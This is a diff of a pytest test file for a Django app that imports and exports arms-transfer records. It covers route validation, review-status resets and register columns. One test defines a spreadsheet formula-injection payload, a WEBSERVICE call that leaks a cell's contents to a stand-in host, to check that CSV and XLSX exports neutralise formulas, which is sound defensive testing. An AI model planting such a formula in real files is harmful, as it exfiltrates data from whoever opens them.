@@ -17,7 +17,7 @@ CSV, XLSX = "0", "1"  # the admin's format choices, in the order of ImportExport
 TRANSFER_HEADER = "slug,supplier,recipient,supplier_actor,materiel,quantity,status,via,covert,first_reported\n"
 GOOD_TRANSFERS = (
     TRANSFER_HEADER
-    + "prk-rus-missiles,PRK,RUS,,artillery-shells,24,delivered,SYR;PRK,1,2024-01-04\n"
+    + "prk-rus-missiles,PRK,RUS,,artillery-shells,24,delivered,SYR,1,2024-01-04\n"
     + "rus-prk-aircraft,RUS,PRK,white-house,artillery-shells,,anticipated,,0,\n"
 )
 
@@ -51,7 +51,7 @@ def test_the_preview_writes_nothing_and_the_confirmation_imports(editor_client, 
     missiles = models.Transfer.objects.get(slug="prk-rus-missiles")
     assert (missiles.supplier.iso3, missiles.recipient.iso3) == ("PRK", "RUS")
     assert (missiles.quantity, missiles.covert) == (24, True)
-    assert [step.state.iso3 for step in missiles.route.order_by("id")] == ["SYR", "PRK"]
+    assert [step.state.iso3 for step in missiles.route.order_by("id")] == ["SYR"]
     aircraft = models.Transfer.objects.get(slug="rus-prk-aircraft")
     assert aircraft.supplier_actor == admin_world["white_house"]
     assert (aircraft.quantity, aircraft.first_reported) == (None, None)
@@ -70,9 +70,10 @@ def test_the_preview_writes_nothing_and_the_confirmation_imports(editor_client, 
         ("bad,PRK,RUS,,no-such-thing,1,delivered,,0,", "materiel", "No Materiel with slug 'no-such-thing'."),
         ("bad,PRK,RUS,,artillery-shells,1,delivered,SYR;ZZZ,0,", "via", "No State with iso3 'ZZZ'."),
         ("bad,PRK,RUS,,artillery-shells,1,delivered,,0,2024-13-45", "first_reported", "Value could not be parsed"),
+        ("bad,PRK,RUS,,artillery-shells,1,delivered,SYR;PRK,0,", "via", "PRK is the supplier or the recipient"),
     ],
     ids=["unknown-iso3", "supplier-is-recipient", "negative-quantity", "bad-status", "unknown-materiel",
-         "unknown-transit", "bad-date"],
+         "unknown-transit", "bad-date", "transit-is-supplier"],
 )
 def test_one_bad_row_rejects_the_whole_file_naming_row_and_field(editor_client, admin_world, line, field, message):
     content = GOOD_TRANSFERS + line + "\n"  # the bad row is row 3
@@ -113,7 +114,7 @@ def test_an_xlsx_file_imports_like_a_csv(editor_client, admin_world):
     preview = upload(editor_client, "transfer", buffer.getvalue(), name="transfers.xlsx", fmt=XLSX)
     assert [row.import_type for row in preview.context["result"].rows] == ["new", "new"]
     confirm(editor_client, "transfer", preview)
-    assert models.Transfer.objects.get(slug="prk-rus-missiles").route.count() == 2
+    assert models.Transfer.objects.get(slug="prk-rus-missiles").route.count() == 1
 
 
 @pytest.mark.parametrize(
@@ -168,8 +169,8 @@ def test_transfers_export_as_csv_with_natural_keys_and_route(editor_client, admi
     url, data = export_form(editor_client, "transfer", CSV)
     # 1 session, 1 user, 2 permissions, 2 the changelist's State filters and 2 its year filter's
     # ends (the export honours the list's filters), 1 count, 1 transfers with references joined,
-    # 1 their routes: not one per row.
-    with django_assert_num_queries(11):
+    # 1 their routes, 1 their parties: not one per row.
+    with django_assert_num_queries(12):
         response = editor_client.post(url, data)
     assert response.status_code == 200
     assert response["Content-Type"].startswith("text/csv")
@@ -196,3 +197,85 @@ def test_viewers_may_export_but_not_import(viewer_client, admin_world):
     assert upload(viewer_client, "transfer", GOOD_TRANSFERS).status_code == 403
     assert export(viewer_client, "transfer", CSV).status_code == 200
     assert not models.Transfer.objects.filter(slug="prk-rus-missiles").exists()
+
+
+def test_an_import_that_changes_a_reviewed_transfer_returns_it_to_draft(editor_client, second_editor, admin_world):
+    from transfers.services.review import transfer_mark_reviewed
+
+    transfer = transfer_mark_reviewed(transfer=admin_world["transfer"], user=second_editor)
+    assert transfer.is_reviewed
+    content = TRANSFER_HEADER + "prk-rus-shells,PRK,RUS,,artillery-shells,5000,delivered,SYR,0,\n"
+    confirm(editor_client, "transfer", upload(editor_client, "transfer", content))
+    transfer.refresh_from_db()
+    assert transfer.quantity == 5000
+    assert not transfer.is_reviewed
+
+
+def test_an_import_that_only_changes_the_route_of_a_reviewed_transfer_returns_it_to_draft(
+    editor_client, second_editor, admin_world
+):
+    from transfers.services.review import transfer_mark_reviewed
+
+    transfer = admin_world["transfer"]
+    quantity = transfer.quantity or ""
+    content = TRANSFER_HEADER + f"prk-rus-shells,PRK,RUS,,artillery-shells,{quantity},{transfer.status},,0,\n"
+    transfer_mark_reviewed(transfer=transfer, user=second_editor)
+    confirm(editor_client, "transfer", upload(editor_client, "transfer", content))
+    transfer.refresh_from_db()
+    # via names the transit States: they go; the named region the route also passes stays.
+    assert not transfer.route.filter(state__isnull=False).exists()
+    assert transfer.route.filter(place__slug="middle-east").exists()
+    assert not transfer.is_reviewed
+
+
+# --- exports are safe to open in a spreadsheet --------------------------------------------------
+
+HOSTILE = '=WEBSERVICE("http://example.invalid/?leak="&A1)'
+
+
+def test_exports_neutralise_formulas_in_csv_and_xlsx(viewer_client, admin_world):
+    models.Transfer.objects.filter(pk=admin_world["transfer"].pk).update(description=HOSTILE, quantity_note="+1+2")
+    csv_text = export(viewer_client, "transfer", CSV).content.decode()
+    assert "'=WEBSERVICE(" in csv_text and ",=WEBSERVICE" not in csv_text and '"=WEBSERVICE' not in csv_text
+    book = openpyxl.load_workbook(io.BytesIO(export(viewer_client, "transfer", XLSX).content))
+    cells = [cell for row in book.active.iter_rows() for cell in row]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]  # no formula cell at all
+    assert "'" + HOSTILE in [cell.value for cell in cells]
+
+
+def test_a_control_character_does_not_break_the_xlsx_export(viewer_client, admin_world):
+    models.Transfer.objects.filter(pk=admin_world["transfer"].pk).update(description="tab\x0bbed (test data)")
+    response = export(viewer_client, "transfer", XLSX)
+    assert response.status_code == 200
+    book = openpyxl.load_workbook(io.BytesIO(response.content))
+    assert "tab\ufffdbed (test data)" in [cell.value for row in book.active.iter_rows() for cell in row]
+
+
+REGISTER_HEADER = "slug,supplier,recipient,recipient_actor,materiel,quantity,quantity_delivered,quantity_low," \
+                  "quantity_high,quantity_estimated,status,route,parties\n"
+
+
+def test_the_admin_import_takes_the_register_columns(editor_client, admin_world):
+    f.PlaceFactory(slug="tartus", kind="port")
+    body = (REGISTER_HEADER
+            + "prk-rus-rockets,PRK,RUS,,artillery-shells,500,200,,,1,delivered,"
+              "origin:PRK:sea;transshipment:SYR+tartus:sea,shipper:white-house\n"
+            + "unknown-rus-shells,,RUS,,artillery-shells,,,100,999,1,delivered,,\n")
+    preview = upload(editor_client, "transfer", body)
+    assert preview.context["confirm_form"] is not None, preview.context["result"].invalid_rows
+    confirm(editor_client, "transfer", preview)
+    rockets = models.Transfer.objects.get(slug="prk-rus-rockets")
+    assert (rockets.quantity, rockets.quantity_delivered, rockets.quantity_estimated) == (500, 200, True)
+    legs = list(rockets.route.order_by("seq").values_list("seq", "role", "state__iso3", "place__slug", "mode"))
+    assert legs == [(1, "origin", "PRK", None, "sea"), (2, "transshipment", "SYR", "tartus", "sea")]
+    assert list(rockets.parties.values_list("role", "actor__slug")) == [("shipper", "white-house")]
+    unknown = models.Transfer.objects.get(slug="unknown-rus-shells")
+    assert (unknown.supplier, unknown.quantity_low, unknown.quantity_high) == (None, 100, 999)
+
+
+def test_the_admin_import_refuses_a_bad_leg_naming_the_route(editor_client, admin_world):
+    body = REGISTER_HEADER + "prk-rus-rockets,PRK,RUS,,artillery-shells,,,,,0,delivered,teleport:SYR:sea,\n"
+    preview = upload(editor_client, "transfer", body)
+    assert "confirm_form" not in preview.context or preview.context["confirm_form"] is None
+    errors = preview.context["result"].invalid_rows[0].field_specific_errors
+    assert "route" in errors and "'teleport' is not one of" in str(errors["route"])
